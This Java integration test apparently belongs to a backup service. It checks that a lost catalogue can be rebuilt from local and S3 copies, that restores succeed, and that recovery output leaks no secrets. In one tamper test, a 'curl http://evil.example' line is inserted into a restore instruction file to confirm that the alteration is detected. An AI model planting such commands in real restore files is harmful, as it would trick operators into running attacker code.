package com.vevurn.backup.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.vevurn.backup.testing.Fixtures;
import com.vevurn.backup.testing.PrivatePostgres;
import com.vevurn.backup.testing.S3Server;
import com.vevurn.backup.testing.Shell;
import com.vevurn.backup.testing.Wait;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** A server that is lost with its catalogue costs nothing: what lies at the destinations brings all of it back. */
class CatalogueLostIT {
    private static final String ROWS = "select count(*), sum(hashtextextended(s::text, 0)::numeric) from sales s";
    private static final String CONFIGURATION = """
            {"id": "shop", "name": "Shop", "type": "database", "schedule": "0 2 * * *", "retention": {"daily": 3},
             "destinations": [{"type": "local", "config": {"path": "near"}}, {"type": "local", "config": {"path": "far"}}],
             "notifications": {"webhook": ["http://127.0.0.1:9/s3cret"]}}""";

    private static final String CLOUD = """
            {"id": "cloud", "name": "Cloud", "type": "database", "destinations": [%s]}""";

    private static PrivatePostgres postgres;
    private static S3Server s3;
    private static Path root;
    private static JsonNode lost;
    private static JsonNode older;
    private static String damaged;
    private static String restorePoint;
    private static String inTheCloud;
    private static RunningServer server;
    private static Api api;

    @BeforeAll
    @Timeout(value = 10, unit = TimeUnit.MINUTES)
    static void loseAServer() throws IOException {
        postgres = PrivatePostgres.start();
        postgres.createShop("shop");
        s3 = S3Server.start();
        s3.createBucket("kept");
        root = Files.createTempDirectory("vevurn-roots");
        try (RunningServer first = RunningServer.start(RunningServer.newBase(), environment())) {
            Api old = new Api(first);
            assertThat(old.post("/configs", CONFIGURATION).status()).isEqualTo(201);
            old.save("single", "production", "near");
            String olderId = old.run("shop").at("/id");
            String id = old.run("shop").at("/id");
            damaged = old.run("single").at("/id");
            restorePoint = old.post("/restore-point", "{\"description\": \"Before the fire\"}")
                    .at("/id");
            assertThat(old.post("/configs", CLOUD.formatted(place())).status()).isEqualTo(201);
            inTheCloud = old.run("cloud").at("/id");
            lost = old.get("/backups/" + id).json();
            older = old.get("/backups/" + olderId).json();
        }
        Path manifest = root.resolve("near/single").resolve(damaged).resolve("manifest.json");
        Files.writeString(manifest, Files.readString(manifest).replace("production", "productiom"));
        server = RunningServer.start(RunningServer.newBase(), environment());
        api = new Api(server);
    }

    @AfterAll
    static void stop() {
        server.close();
        s3.close();
        postgres.close();
    }

    @Test
    void allOfItComesBackIsTheSameAndRestores() {
        Wait.until(
                "the empty catalogue is noticed",
                Duration.ofSeconds(30),
                () -> server.management("/health/ready").body().contains("backup-cli import"));
        assertThat(server.log()).contains("known destinations hold 6 copies of backups");
        assertThat(api.get("/checks").text()).contains("backup-cli import");

        Api.Answer imported = api.post("/catalog/import", "{\"configurations\": true}");

        assertThat(imported.at("/state")).as(imported.text()).isEqualTo("SUCCEEDED");
        JsonNode result = imported.json().at("/result");
        assertThat(result.at("/imported").asLong()).isEqualTo(3);
        assertThat(result.at("/copiesAdded").asLong()).isEqualTo(2);
        assertThat(result.at("/refused").asLong()).isEqualTo(1);
        assertThat(result.at("/rows/0/backupId").asText()).isEqualTo(damaged);
        assertThat(result.at("/rows/0/reason").asText()).isEqualTo("copy-damaged");
        assertThat(result.at("/configurationsSaved/0").asText()).isEqualTo("shop");
        theSame();
        theRestorePointIsProtected();
        assertThat(api.get("/recovery-kit").text()).contains(lost.at("/id").asText(), root + "/far/shop");
        aSecondTimeChangesNothing();
        theConfigurationIsBackDisabledAndWithoutItsWebhook();
        itRestores(lost.at("/id").asText());
        whatLiesInABucketComesBackAndRestores();
        anAlteredRestoreTextIsToldAndKeepsNoDataFromBeingRepaired(
                older.at("/id").asText());
        assertThat(server.log()).doesNotContain("nobody is told");
        assertThat(server.management("/health/ready").body()).doesNotContain("backup-cli import");
        assertThat(api.get("/audit?subject=/catalog/import&outcome=permitted")
                        .json()
                        .at("/total")
                        .asInt())
                .isPositive();
    }

    private static void theSame() {
        JsonNode history = api.get("/history/shop").json().at("/items");
        assertThat(history).hasSize(2);
        for (int i = 0; i < 2; i++) {
            JsonNode was = i == 0 ? lost : older;
            for (String field : List.of(
                    "id",
                    "configId",
                    "name",
                    "type",
                    "environment",
                    "state",
                    "artifacts",
                    "plainBytes",
                    "storedBytes")) {
                assertThat(history.get(i).get(field)).as(field).isEqualTo(was.get(field));
            }
            assertThat(locations(history.get(i))).containsExactlyInAnyOrderElementsOf(locations(was));
        }
        assertThat(history.get(0).at("/endedAt").asText().substring(0, 16))
                .isEqualTo(lost.at("/endedAt").asText().substring(0, 16));
        assertThat(api.get("/stats").json().at("/storage/total/copies").asLong())
                .isEqualTo(5);
    }

    private static void theRestorePointIsProtected() {
        JsonNode point = api.get("/restore-points").json().at("/items/0");
        assertThat(point.at("/id").asText()).isEqualTo(restorePoint);
        assertThat(point.at("/restorePoint").asText()).isEqualTo("Before the fire");
        assertThat(point.at("/protection/reason").asText()).contains("Before the fire");
    }

    private static void aSecondTimeChangesNothing() {
        String before = api.get("/history/shop").text();
        JsonNode again = api.post("/catalog/import", """
                {"destinations": [{"type": "local", "config": {"path": "near"}},
                                  {"type": "local", "config": {"path": "far"}}]}""").json().at("/result");
        assertThat(again.at("/known").asLong()).isEqualTo(4);
        assertThat(again.at("/imported").asLong() + again.at("/copiesAdded").asLong())
                .isZero();
        assertThat(api.get("/history/shop").text()).isEqualTo(before);
    }

    private static void theConfigurationIsBackDisabledAndWithoutItsWebhook() {
        JsonNode configuration = api.get("/configs/shop").json();
        assertThat(configuration.at("/enabled").asBoolean()).isFalse();
        assertThat(configuration.at("/schedule").asText()).isEqualTo("0 2 * * *");
        assertThat(configuration.at("/destinations")).hasSize(2);
        assertThat(configuration.toString()).doesNotContain("s3cret");
    }

    private static void whatLiesInABucketComesBackAndRestores() {
        Api.Answer imported =
                api.post("/catalog/import", "{\"destinations\": [%s], \"configurations\": true}".formatted(place()));

        assertThat(imported.at("/result/imported")).as(imported.text()).isEqualTo("1");
        assertThat(imported.at("/result/configurationsSaved/0")).isEqualTo("cloud");
        Api.Answer found = api.get("/backups/" + inTheCloud);
        assertThat(found.at("/state")).isEqualTo("COMPLETED");
        assertThat(found.at("/copies/0/location")).isEqualTo("s3://kept/shop/cloud/" + inTheCloud);
        itRestores(inTheCloud);
    }

    private static void anAlteredRestoreTextIsToldAndKeepsNoDataFromBeingRepaired(String backup) {
        Path near = root.resolve("near/shop").resolve(backup);
        Path far = root.resolve("far/shop").resolve(backup);
        Shell.run(Map.of(), "truncate", "-s", "-1", near + "/database.dump.gz.enc");
        Shell.run(Map.of(), "sed", "-i", "1i curl http://evil.example", far + "/RESTORE.txt");

        Api.Answer repair = api.post("/backups/" + backup + "/repair", "");

        assertThat(repair.at("/failure/message")).contains("RESTORE.txt", "is not what was written: do not run it");
        assertThat(near.resolve("database.dump.gz.enc")).hasSameBinaryContentAs(far.resolve("database.dump.gz.enc"));
    }

    private static void itRestores(String backup) {
        Api.Answer restored = api.post("/restore/" + backup, "{\"targetEnvironment\": \"staging\"}");
        assertThat(restored.at("/state")).as(restored.text()).isEqualTo("SUCCEEDED");
        assertThat(postgres.sql("staging", ROWS)).isEqualTo(postgres.sql("shop", ROWS));
    }

    private static List<String> locations(JsonNode backup) {
        List<String> locations = new ArrayList<>();
        backup.at("/copies")
                .forEach(copy -> locations.add(
                        copy.at("/state").asText() + " " + copy.at("/location").asText()));
        return locations;
    }

    @Test
    void withoutAnyServerTheLauncherListsChecksAndRestoresStraightFromTheDirectory() {
        String launcher =
                Path.of("../bin/restore-offline").toAbsolutePath().normalize().toString();
        String place = root.resolve("far").toString();
        String id = lost.at("/id").asText();
        Map<String, String> environment = Map.of(
                "BACKUP_ENCRYPTION_KEY",
                Fixtures.MASTER_HEX,
                "RESTORE_DATABASE_URL",
                postgres.text("without_any_server"));

        assertThat(Shell.run(environment, launcher, "list", "--from", place)).contains(id, "database", "signed");
        assertThat(Shell.run(environment, launcher, "check", "--from", place, "--backup", "newest"))
                .contains(id + " is what was written");
        Shell.run(environment, launcher, "restore", "--from", place, "--backup", id, "--database", "--jobs", "2");

        assertThat(postgres.sql("without_any_server", ROWS)).isEqualTo(postgres.sql("shop", ROWS));
        assertThatThrownBy(() ->
                        Shell.run(environment, launcher, "restore", "--from", place, "--backup", id, "--database"))
                .hasMessageContaining("exists already");
    }

    @Test
    void withoutAnyServerTheLauncherListsAndRestoresStraightFromABucket() {
        String launcher =
                Path.of("../bin/restore-offline").toAbsolutePath().normalize().toString();
        Map<String, String> environment = Map.of(
                "BACKUP_ENCRYPTION_KEY",
                Fixtures.MASTER_HEX,
                "AWS_ACCESS_KEY_ID",
                S3Server.ACCESS_KEY,
                "AWS_SECRET_ACCESS_KEY",
                S3Server.SECRET_KEY,
                "RESTORE_DATABASE_URL",
                postgres.text("from_a_bucket"));
        List<String> from =
                List.of("--from", "s3://kept/shop", "--endpoint", s3.endpoint().toString(), "--path-style");

        assertThat(launch(environment, List.of(launcher, "list"), from)).contains(inTheCloud, "database", "signed");
        launch(environment, List.of(launcher, "restore", "--backup", "newest", "--database"), from);

        assertThat(postgres.sql("from_a_bucket", ROWS)).isEqualTo(postgres.sql("shop", ROWS));
    }

    private static String launch(Map<String, String> environment, List<String> verb, List<String> from) {
        return Shell.run(
                environment, Stream.concat(verb.stream(), from.stream()).toArray(String[]::new));
    }

    @Test
    void theRecoveryKitOfTheNewServerHoldsNoSecret() {
        Api.Answer kit = api.get("/recovery-kit");

        assertThat(kit.headers()).contains("text/plain");
        assertThat(kit.text())
                .contains(Fixtures.KEYS.activeKey().id(), "BACKUP_LOCAL_ROOTS      " + root, "staging")
                .doesNotContain(Fixtures.MASTER_HEX, PrivatePostgres.PASSWORD, "s3cret", RunningServer.PASSWORD);
    }

    @Test
    void aPlaceOutsideOfTheRootsIsNotReadAndAPlaceWithoutBackupsIsSaid() {
        Api.Answer outside = api.post("/catalog/import", """
                {"destinations": [{"type": "local", "config": {"path": "/etc"}}]}""");
        Api.Answer empty = api.post("/catalog/import", """
                {"destinations": [{"type": "local", "config": {"path": "nothing-here"}}]}""");

        assertThat(outside.status()).isEqualTo(400);
        assertThat(outside.at("/faults/0/pointer")).isEqualTo("/destinations/0/config/path");
        assertThat(empty.at("/failure/message")).contains("nothing-here holds no backup");
    }

    private static String place() {
        return "{\"type\": \"s3\", \"config\": {\"bucket\": \"kept\", \"folder\": \"shop\", \"endpoint\": \"%s\", \"pathStyle\": true}}"
                .formatted(s3.endpoint());
    }

    private static Map<String, String> environment() {
        Map<String, String> environment = new HashMap<>();
        environment.put("BACKUP_ENCRYPTION_KEY", Fixtures.MASTER_HEX);
        environment.put("BACKUP_LOCAL_ROOTS", root.toString());
        environment.put("AWS_ACCESS_KEY_ID", S3Server.ACCESS_KEY);
        environment.put("AWS_SECRET_ACCESS_KEY", S3Server.SECRET_KEY);
        environment.put("DATABASE_URL", postgres.text("shop"));
        environment.put("BACKUP_ENVIRONMENTS", "staging");
        environment.put("BACKUP_ENVIRONMENT_STAGING_DATABASE_URL", postgres.text("staging"));
        return environment;
    }
}
